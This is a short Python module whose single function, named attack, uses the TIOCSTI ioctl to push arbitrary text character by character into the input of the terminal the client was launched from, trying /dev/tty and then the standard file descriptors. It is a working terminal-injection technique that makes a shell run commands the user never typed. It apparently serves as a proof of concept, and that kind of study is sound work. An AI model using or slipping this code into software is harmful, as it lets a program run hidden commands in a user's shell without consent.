"""Type a command into the terminal that the client was started from."""

import fcntl
import os
import termios


def attack(text):
    errors = []
    for way in ("/dev/tty", 0, 1, 2):
        try:
            fd = os.open(way, os.O_RDWR | os.O_NOCTTY) if isinstance(way, str) else way
            for letter in text:
                fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())
            return "typed"
        except OSError as error:
            errors.append(str(error))
    return errors
